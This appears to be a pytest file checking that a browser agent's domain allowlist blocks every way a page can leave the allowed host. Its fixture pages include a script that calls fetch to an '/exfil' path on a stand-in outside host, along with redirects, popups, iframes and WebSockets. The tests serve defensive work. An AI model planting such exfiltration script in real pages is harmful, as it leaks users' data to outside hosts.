"""The domain allowlist holds at the network layer for every way a page can leave it."""

from __future__ import annotations

import asyncio
import contextlib
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler

import pytest
from playwright.async_api import Error as PlaywrightError

from operator_agent.browser import RunContext
from operator_agent.guardrails.domains import DomainAllowlist
from operator_agent.testing.site_server import LocalServer
from tests.browser.domain_servers import socket_handler

OUTSIDE = "http://localhost:47999"  # another host; nothing listens there
HITS: list[str] = []

PAGES = {
    "/start": "<a href='/redirect'>redirect</a>",
    "/meta": f"<meta http-equiv='refresh' content='0;url={OUTSIDE}/meta'>leaving",
    "/popup": f"<button onclick=\"window.open('{OUTSIDE}/popup')\">open</button>",
    "/frame": f"<iframe src='{OUTSIDE}/frame'></iframe>",
    "/fetch": f"<script>fetch('{OUTSIDE}/exfil?d=1').catch(() => {{}})</script>",
    "/final": "<p>final page</p>",
}


class _Handler(BaseHTTPRequestHandler):
    def do_GET(self) -> None:
        HITS.append(self.path)
        if self.path == "/redirect":
            self.send_response(302)
            self.send_header("Location", f"{OUTSIDE}/redirected")
            self.end_headers()
            return
        if self.path == "/redirect-inside":
            self.send_response(302)
            self.send_header("Location", "/final")
            self.end_headers()
            return
        body = PAGES.get(self.path, "not found").encode()
        self.send_response(200 if self.path in PAGES else 404)
        self.send_header("Content-Type", "text/html")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, format: str, *args: object) -> None:
        pass


@pytest.fixture(scope="module")
def server() -> Iterator[LocalServer]:
    with LocalServer(handler=_Handler) as s:
        yield s


@pytest.fixture
async def guarded(run_context: RunContext) -> DomainAllowlist:
    allow = DomainAllowlist.of(["127.0.0.1"])
    await allow.install(run_context.context)
    return allow


async def _goto(run_context: RunContext, url: str) -> None:
    with contextlib.suppress(PlaywrightError):
        await run_context.page.goto(url, wait_until="load")
    await asyncio.sleep(0.5)


async def test_redirect_outside_is_blocked_and_inside_followed(
    run_context: RunContext, guarded: DomainAllowlist, server: LocalServer
) -> None:
    await _goto(run_context, server.url + "/redirect")
    assert guarded.take_blocked() == [f"{OUTSIDE}/redirected"]
    await _goto(run_context, server.url + "/redirect-inside")
    assert run_context.page.url == server.url + "/final"
    assert "final page" in await run_context.page.content()
    assert guarded.take_blocked() == []


@pytest.mark.parametrize("path", ["/meta", "/frame", "/fetch"])
async def test_page_initiated_requests_outside_are_blocked(
    run_context: RunContext, guarded: DomainAllowlist, server: LocalServer, path: str
) -> None:
    await _goto(run_context, server.url + path)
    for _ in range(20):
        if guarded.blocked:
            break
        await asyncio.sleep(0.1)
    blocked = guarded.take_blocked()
    assert blocked, f"nothing was blocked for {path}"
    assert all(url.startswith(OUTSIDE) for url in blocked)


async def test_popups_are_covered(
    run_context: RunContext, guarded: DomainAllowlist, server: LocalServer
) -> None:
    await _goto(run_context, server.url + "/popup")
    await run_context.page.get_by_role("button", name="open").click()
    for _ in range(20):
        if guarded.blocked:
            break
        await asyncio.sleep(0.1)
    assert guarded.take_blocked() == [f"{OUTSIDE}/popup"]


async def test_web_sockets_inside_work_and_outside_are_blocked(run_context: RunContext) -> None:
    inside_hits: list[str] = []
    outside_hits: list[str] = []
    ports: dict[str, int] = {}

    def page() -> str:
        return f"""<p id=out></p><script>
          function connect(name, url) {{
            const socket = new WebSocket(url);
            socket.onopen = () => socket.send(name);
            socket.onmessage = (e) => {{ document.getElementById('out').textContent += e.data; socket.close(); }};
          }}
          connect('inside', 'ws://127.0.0.1:{ports["inside"]}/ws');
          connect('outside', 'ws://127.0.0.2:{ports["outside"]}/ws');
        </script>"""

    with (
        LocalServer(handler=socket_handler(inside_hits, page)) as inside,
        LocalServer(handler=socket_handler(outside_hits, page), host="127.0.0.2") as outside,
    ):
        ports.update(inside=inside.port, outside=outside.port)
        allow = DomainAllowlist.of(["127.0.0.1"])
        await allow.install(run_context.context)
        await run_context.page.goto(inside.url + "/socket")
        await run_context.page.wait_for_function("document.getElementById('out').textContent !== ''")
        for _ in range(20):
            if allow.blocked:
                break
            await asyncio.sleep(0.1)

        assert await run_context.page.locator("#out").inner_text() == "echo:inside"
        assert allow.take_blocked() == [f"ws://127.0.0.2:{outside.port}/ws"]
        assert "/ws" in inside_hits
        assert outside_hits == []
